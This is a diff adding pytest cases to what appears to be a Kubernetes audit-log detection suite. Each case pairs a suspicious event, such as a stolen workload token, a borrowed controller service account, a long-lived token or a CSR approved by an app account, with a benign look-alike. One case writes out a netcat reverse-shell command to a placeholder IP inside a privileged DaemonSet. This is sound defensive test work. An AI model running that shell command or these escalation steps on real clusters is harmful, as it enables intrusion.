@@ -975,6 +975,126 @@ CASES.update(
 )
 
 
+# Round four (gaps 3): a stolen workload token, a trusted image borrowed, a controller's
+# account mounted; each beside the same request by the identity that does it by design.
+KUBE_PROXY = "registry.k8s.io/kube-proxy:v1.30.2"
+APP_SA = "system:serviceaccount:shop:app"
+
+
+def _agent(command: list[str]) -> dict:
+    body = workload("DaemonSet", ns="kube-system", image=KUBE_PROXY, privileged=True)
+    body["spec"]["template"]["spec"]["containers"][0]["command"] = command
+    return body
+
+
+def _sa_pod(account: str) -> dict:
+    body = pod("kube-system", image=KUBE_PROXY)
+    body["spec"]["serviceAccountName"] = account
+    return ev("create", "pods", ns="kube-system", code=201, body=body)
+
+
+def _token(user: Any, seconds: int = 3600, ns: str = "shop") -> dict:
+    body = {"kind": "TokenRequest", "spec": {"expirationSeconds": seconds}}
+    return ev(
+        "create", "serviceaccounts", ns=ns, name="app", sub="token", code=201, user=user, body=body
+    )
+
+
+def _sa_denied(user: Any, resource: str) -> dict:
+    return ev("get", resource, ns="kube-system", name="x", code=403, decision="forbid", user=user)
+
+
+CASES.update(
+    {
+        "trusted-image-shell-command": (
+            [
+                ev(
+                    "create",
+                    "daemonsets",
+                    ns="kube-system",
+                    group="apps",
+                    code=201,
+                    body=_agent(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"]),
+                )
+            ],
+            [
+                ev(
+                    "create",
+                    "daemonsets",
+                    ns="kube-system",
+                    group="apps",
+                    code=201,
+                    body=_agent(["kube-proxy", "--v=2"]),
+                )
+            ],
+            "kube-proxy running kube-proxy",
+        ),
+        "controller-service-account-pod": (
+            [_sa_pod("clusterrole-aggregation-controller")],
+            [_sa_pod("kube-proxy")],
+            "a kube-system pod with its own add-on account",
+        ),
+        "cronjob-created-by-service-account": (
+            [
+                ev(
+                    "create",
+                    "cronjobs",
+                    ns="shop",
+                    group="batch",
+                    code=201,
+                    body=cronjob(),
+                    user=APP_SA,
+                )
+            ],
+            [
+                ev(
+                    "create",
+                    "cronjobs",
+                    ns="shop",
+                    group="batch",
+                    code=201,
+                    body=cronjob(),
+                    user="system:serviceaccount:flux-system:kustomize-controller",
+                )
+            ],
+            "Flux applying the same CronJob",
+        ),
+        "service-account-token-requested": (
+            [_token(iam())],
+            [_token(NODE)],
+            "a kubelet minting its pod's token",
+        ),
+        "token-requested-by-service-account": (
+            [_token(APP_SA)],
+            [_token("system:serviceaccount:cert-manager:cert-manager")],
+            "cert-manager minting a token for a Vault issuer",
+        ),
+        "long-lived-token-requested": (
+            [_token(iam(), seconds=31_536_000)],
+            [_token(NODE, seconds=86400)],
+            "the kubelet's one-day IRSA token",
+        ),
+        "csr-created-by-service-account": ([csr(APP_SA)], [csr(NODE)], "a kubelet's CSR"),
+        "csr-approved-by-service-account": (
+            [csr(APP_SA, sub="approval", verb="update")],
+            [
+                csr(
+                    "system:serviceaccount:kube-system:certificate-controller",
+                    sub="approval",
+                    verb="update",
+                )
+            ],
+            "the controller approving a kubelet CSR",
+        ),
+        "service-account-denied-sensitive": (
+            [_sa_denied(APP_SA, "secrets")],
+            [_sa_denied(APP_SA, "configmaps")],
+            "the same account refused a ConfigMap",
+        ),
+    }
+)
+
+
 @pytest.fixture(scope="module")
 def ruleset(tmp_path_factory):
     """The built-in rules, with one deny list configured as detect.toml's ip_lists would."""
